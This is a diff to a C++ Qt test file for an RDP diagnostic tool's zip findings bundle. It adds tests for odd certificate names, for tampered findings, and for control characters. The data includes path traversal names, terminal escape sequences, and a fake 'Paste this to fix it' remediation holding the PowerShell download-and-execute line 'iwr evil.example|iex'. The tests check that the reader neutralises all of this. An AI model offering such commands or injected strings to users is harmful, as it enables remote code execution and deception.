@@ -2,7 +2,9 @@
 // The findings bundle: layout, the reference code in every file, manifest, round trip,
 // acceptance by other zip readers (unzip -t, Python's zipfile), atomic writing (a full disk
 // simulated with RLIMIT_FSIZE leaves nothing behind), redaction across every file, and
-// hostile archives built here byte by byte (traversal names, bombs, lies, tampering, …).
+// hostile archives built here byte by byte (traversal names, bombs, lies, tampering, …),
+// hostile contents (edited findings, unknown codes, control characters) shown as data only,
+// and certificates with any common name giving bundles that reopen.
 
 #include "BundleFixtures.h"
 #include "CliProcess.h"
@@ -13,6 +15,7 @@
 #include "bundle/ZipArchive.h"
 #include "report/JsonReport.h"
 #include "report/TicketSummary.h"
+#include "support/SafeText.h"
 
 #include <QCryptographicHash>
 #include <QDir>
@@ -26,7 +29,9 @@
 #include <QTest>
 #include <QtEndian>
 
+#include <algorithm>
 #include <csignal>
+#include <functional>
 #include <sys/resource.h>
 
 using namespace rdpdiag;
@@ -182,6 +187,43 @@ QByteArray bundleOf(QList<RawEntry> files, const QByteArray &manifest = {})
 }
 
 /** Every file of a bundle on disk, by name (read with the engine's own zip reader). */
+/** The first 12 hex digits of the SHA-256 of the certificate @p pem (its DER). */
+QString sha256Prefix(const QByteArray &pem)
+{
+    return QString::fromLatin1(
+        QSslCertificate(pem).digest(QCryptographicHash::Sha256).toHex().left(12));
+}
+
+/** goodFiles() with report.json edited by @p edit (and a manifest that matches). */
+QByteArray bundleWithReport(const std::function<void(QJsonObject &)> &edit)
+{
+    QList<RawEntry> files = goodFiles();
+    QJsonObject report = QJsonDocument::fromJson(files[0].data).object();
+    edit(report);
+    files[0].data = QJsonDocument(report).toJson();
+    return bundleOf(files);
+}
+
+/** Replaces the finding @p index of @p report with @p finding's keys. */
+void editFinding(QJsonObject &report, int index, const QJsonObject &changes)
+{
+    QJsonArray findings = report.value(QStringLiteral("findings")).toArray();
+    QJsonObject finding = findings.at(index).toObject();
+    for (auto it = changes.begin(); it != changes.end(); ++it)
+        finding.insert(it.key(), it.value());
+    findings.replace(index, finding);
+    report.insert(QStringLiteral("findings"), findings);
+}
+
+/** True when @p text has a character that safeText() replaces. */
+bool hasUnsafeCharacter(const QString &text)
+{
+    for (const QChar c : text)
+        if (isUnsafeTextCharacter(c.unicode()))
+            return true;
+    return false;
+}
+
 /** The addresses of this machine that redaction must remove (not loopback). */
 QStringList localAddresses()
 {
@@ -217,6 +259,11 @@ private slots:
     void hostile_data();
     void hostile();
     void readingWritesNothing();
+    void certificateNamesReopen_data();
+    void certificateNamesReopen();
+    void unopenableBundleIsNotWritten();
+    void editedFindingsShowTheCatalogue();
+    void controlCharactersNeutralised();
 
 private:
     Report reportWithChain() const
@@ -260,9 +307,12 @@ void TestBundle::layoutAndReference()
     QVERIFY2(written.ok, qPrintable(written.error));
     QCOMPARE(written.path, QFileInfo(path).absoluteFilePath());
     const QMap<QString, QByteArray> files = filesOf(path);
+    const QString leafName = QStringLiteral("certificates/0-rdp01.corp.example.com-%1.pem")
+                                 .arg(sha256Prefix(m_leaf.certificatePem));
     QCOMPARE(files.keys(),
-             (QStringList{QStringLiteral("certificates/0-rdp01.corp.example.com.pem"),
-                          QStringLiteral("certificates/1-Example-Issuing-CA.pem"),
+             (QStringList{leafName,
+                          QStringLiteral("certificates/1-Example-Issuing-CA-%1.pem")
+                              .arg(sha256Prefix(m_ca.certificatePem)),
                           QStringLiteral("environment.json"), QStringLiteral("manifest.json"),
                           QStringLiteral("rdpdiag.log"), QStringLiteral("report.html"),
                           QStringLiteral("report.json"), QStringLiteral("summary.txt")}));
@@ -270,14 +320,13 @@ void TestBundle::layoutAndReference()
     // first line.
     for (auto it = files.cbegin(); it != files.cend(); ++it)
         QVERIFY2(it.value().contains(kSampleReference), qPrintable(it.key()));
-    for (const QString &name : {QStringLiteral("rdpdiag.log"), QStringLiteral("summary.txt"),
-                                QStringLiteral("certificates/0-rdp01.corp.example.com.pem")})
+    for (const QString &name :
+         {QStringLiteral("rdpdiag.log"), QStringLiteral("summary.txt"), leafName})
         QVERIFY2(files.value(name).left(files.value(name).indexOf('\n')).contains(kSampleReference),
                  qPrintable(name));
     QVERIFY(files.value(QStringLiteral("rdpdiag.log")).contains("diagnosing"));
     // The PEM files are the chain, readable as certificates despite the comment header.
-    const QList<QSslCertificate> leaf = QSslCertificate::fromData(
-        files.value(QStringLiteral("certificates/0-rdp01.corp.example.com.pem")));
+    const QList<QSslCertificate> leaf = QSslCertificate::fromData(files.value(leafName));
     QCOMPARE(leaf.size(), 1);
     QCOMPARE(leaf.first().toPem(), QSslCertificate(m_leaf.certificatePem).toPem());
     // The manifest lists every other file with its size and hash.
@@ -313,7 +362,8 @@ void TestBundle::roundTrip()
     const BundleReadResult read = readBundle(path);
     QVERIFY2(read.contents, qPrintable(read.error));
     const BundleContents &contents = *read.contents;
-    QCOMPARE(contents.reportJson, reportToJsonBytes(report));
+    // The findings come back as this version's catalogue has them (BundleFixtures.h).
+    QCOMPARE(contents.reportJson, reportToJsonBytes(reopened(report)));
     QCOMPARE(reportToJsonBytes(contents.report), contents.reportJson);
     QCOMPARE(contents.report.findings.size(), report.findings.size());
     for (qsizetype i = 0; i < report.findings.size(); ++i) {
@@ -686,6 +736,160 @@ void TestBundle::readingWritesNothing()
              (QStringList{QStringLiteral("b.zip"), QStringLiteral("tmp")}));
     QVERIFY(
         !QFileInfo::exists(QFileInfo(dir.path()).absolutePath() + QStringLiteral("/escape.txt")));
+}
+
+void TestBundle::certificateNamesReopen_data()
+{
+    QTest::addColumn<QString>("commonName");
+    QTest::newRow("dot dot") << QStringLiteral("..");
+    QTest::newRow("traversal") << QStringLiteral("../../etc/passwd");
+    QTest::newRow("slash") << QStringLiteral("a/b");
+    QTest::newRow("dots inside") << QStringLiteral("rdp01..corp...example.com");
+    QTest::newRow("300 characters") << QString(300, QLatin1Char('a'));
+    QTest::newRow("control character") << QStringLiteral("\x01");
+    QTest::newRow("escape sequence") << QStringLiteral("x\x1b[2Jy\u202e");
+    QTest::newRow("empty") << QString();
+    QTest::newRow("unicode") << QStringLiteral("сервер.пример.рф");
+    QTest::newRow("backslash and drive") << QStringLiteral("C:\\Windows\\..\\x");
+}
+
+void TestBundle::certificateNamesReopen()
+{
+    // A server's certificate may carry any common name; the bundle of that run reopens.
+    QFETCH(QString, commonName);
+    CertificateOptions options;
+    options.commonName = commonName;
+    options.subjectAltNames = {QStringLiteral("DNS:rdp01.corp.example.com")};
+    options.issuer = &m_ca;
+    const TestCertificate leaf =
+        makeTestCertificate(options, m_dir.path(), QStringLiteral("odd-name"));
+    QVERIFY2(leaf.isValid(), qPrintable(leaf.error));
+    if (!commonName.isEmpty())
+        QCOMPARE(QSslCertificate(leaf.certificatePem).subjectInfo(QSslCertificate::CommonName),
+                 QStringList{commonName});
+    Report report = sampleReport();
+    report.facts.certificate->chainPem = {leaf.certificatePem, m_ca.certificatePem,
+                                          leaf.certificatePem};
+    report.facts.certificate->pem = leaf.certificatePem;
+    const QString path = m_dir.filePath(QStringLiteral("odd-name.zip"));
+    QFile::remove(path);
+    const BundleWriteResult written = writeBundle(report, path, {});
+    QVERIFY2(written.ok, qPrintable(written.error));
+    const BundleReadResult read = readBundle(path);
+    QVERIFY2(read.contents, qPrintable(read.error));
+    const QMap<QString, QByteArray> files = filesOf(path);
+    QStringList certificates;
+    for (const QString &name : files.keys()) {
+        QVERIFY2(isSafeEntryName(name), qPrintable(name));
+        for (const QChar c : name)
+            QVERIFY2(c.unicode() < 0x80, qPrintable(name));
+        if (name.startsWith(QLatin1String("certificates/")))
+            certificates << name;
+    }
+    // Three distinct files, the first and third the same certificate at different places.
+    QCOMPARE(certificates.size(), 3);
+    const QString prefix = sha256Prefix(leaf.certificatePem);
+    QVERIFY2(certificates.first().startsWith(QLatin1String("certificates/0-")) &&
+                 certificates.first().endsWith(QStringLiteral("-%1.pem").arg(prefix)),
+             qPrintable(certificates.first()));
+    QCOMPARE(QSslCertificate::fromData(files.value(certificates.first())).value(0),
+             QSslCertificate(leaf.certificatePem));
+    // The comment header above the PEM is one line per field, without control characters.
+    const QByteArray content = files.value(certificates.first());
+    const QList<QByteArray> header = content.left(content.indexOf("-----BEGIN")).split('\n');
+    QVERIFY(header.size() >= 3); // reference, subject and/or issuer, then the PEM
+    for (const QByteArray &line : header.first(header.size() - 1)) {
+        QVERIFY2(line.startsWith("# "), line.constData());
+        QVERIFY2(!hasUnsafeCharacter(QString::fromUtf8(line)), line.constData());
+    }
+}
+
+void TestBundle::unopenableBundleIsNotWritten()
+{
+    // The writer reads the finished zip back with the reader: what it would refuse (here a
+    // tool version longer than the reader accepts) is never written, and the error says why.
+    Report report = sampleReport();
+    report.toolVersion = QString(100, QLatin1Char('9'));
+    const QString path = m_dir.filePath(QStringLiteral("unopenable.zip"));
+    const BundleWriteResult written = writeBundle(report, path, {});
+    QVERIFY(!written.ok);
+    QVERIFY2(written.error.contains(QStringLiteral("would not open again")),
+             qPrintable(written.error));
+    QVERIFY2(written.error.contains(QStringLiteral("tool.version")), qPrintable(written.error));
+    QVERIFY(!QFileInfo::exists(path));
+}
+
+void TestBundle::editedFindingsShowTheCatalogue()
+{
+    // The manifest is a checksum, not a signature: whoever edits report.json and its manifest
+    // line must not choose what the app shows as "how to fix it".
+    const QJsonObject fakeStep{{QStringLiteral("where"), QStringLiteral("client")},
+                               {QStringLiteral("text"), QStringLiteral("Paste this to fix it")},
+                               {QStringLiteral("command"), QStringLiteral("iwr evil.example|iex")},
+                               {QStringLiteral("shell"), QStringLiteral("powershell")}};
+    const QByteArray archive = bundleWithReport([&fakeStep](QJsonObject &report) {
+        editFinding(report, 0,
+                    {{QStringLiteral("title"), QStringLiteral("Fix: paste the command below")},
+                     {QStringLiteral("remediation"), QJsonArray{fakeStep}}});
+        editFinding(report, 1,
+                    {{QStringLiteral("code"), QStringLiteral("future.fix_everything")},
+                     {QStringLiteral("remediation"), QJsonArray{fakeStep}}});
+    });
+    const BundleReadResult read = readBundleData(archive);
+    QVERIFY2(read.contents, qPrintable(read.error));
+    const Report &report = read.contents->report;
+    const Report expected = reopened(sampleReport());
+    // The first finding is exactly the catalogue's, with the run's parameters.
+    QCOMPARE(QJsonDocument(findingToJson(report.findings.at(0))).toJson(),
+             QJsonDocument(findingToJson(expected.findings.at(0))).toJson());
+    QVERIFY(report.findings.at(0).remediation.size() > 0);
+    QVERIFY(std::any_of(report.findings.at(0).remediation.cbegin(),
+                        report.findings.at(0).remediation.cend(),
+                        [](const Remedy &remedy) { return !remedy.command.isEmpty(); }));
+    // The unknown code says so and has no command at all.
+    QVERIFY(report.findings.at(1).title.contains(QStringLiteral("future.fix_everything")));
+    QVERIFY(report.findings.at(1).remediation.isEmpty());
+    // Nothing of the edit reaches what --read --json prints.
+    QVERIFY(!read.contents->reportJson.contains("evil.example"));
+    QVERIFY(!read.contents->reportJson.contains("Paste this"));
+    QVERIFY(!read.contents->reportJson.contains("Fix: paste"));
+}
+
+void TestBundle::controlCharactersNeutralised()
+{
+    const QString hostile = QStringLiteral("x\x1b]0;owned\x07\x1b[31m\u009b2J\r\u202eexe.txt");
+    QList<RawEntry> files = goodFiles();
+    QJsonObject report = QJsonDocument::fromJson(files[0].data).object();
+    report.insert(QStringLiteral("target"), [&] {
+        QJsonObject target = report.value(QStringLiteral("target")).toObject();
+        target.insert(QStringLiteral("input"), hostile);
+        return target;
+    }());
+    files[0].data = QJsonDocument(report).toJson();
+    files[1].data =
+        (QStringLiteral("summary ") + hostile + QStringLiteral("\nline two\n")).toUtf8();
+    files[2].data =
+        QJsonDocument(QJsonObject{{QStringLiteral("hostname"), hostile}, {hostile, hostile}})
+            .toJson();
+    files[3].data = (QStringLiteral("log ") + hostile + QStringLiteral("\n")).toUtf8();
+    QJsonObject manifest = QJsonDocument::fromJson(manifestFor(files)).object();
+    manifest.insert(QStringLiteral("target"), hostile);
+    const BundleReadResult read = readBundleData(bundleOf(files, QJsonDocument(manifest).toJson()));
+    QVERIFY2(read.contents, qPrintable(read.error));
+    const BundleContents &contents = *read.contents;
+    QCOMPARE(contents.report.target.input, safeText(hostile));
+    QCOMPARE(contents.environment.value(QStringLiteral("hostname")).toString(), safeText(hostile));
+    QVERIFY(contents.environment.contains(safeText(hostile)));
+    QCOMPARE(contents.manifest.value(QStringLiteral("target")).toString(), safeText(hostile));
+    QCOMPARE(
+        contents.summaryText,
+        (QStringLiteral("summary ") + safeText(hostile) + QStringLiteral("\nline two\n")).toUtf8());
+    QCOMPARE(contents.log,
+             (QStringLiteral("log ") + safeText(hostile) + QStringLiteral("\n")).toUtf8());
+    for (const QByteArray &bytes :
+         {contents.summaryText, contents.log, contents.reportJson,
+          QJsonDocument(contents.environment).toJson(), QJsonDocument(contents.manifest).toJson()})
+        QVERIFY(!hasUnsafeCharacter(QString::fromUtf8(bytes).remove(QLatin1Char('\n'))));
 }
 
 QTEST_GUILESS_MAIN(TestBundle)
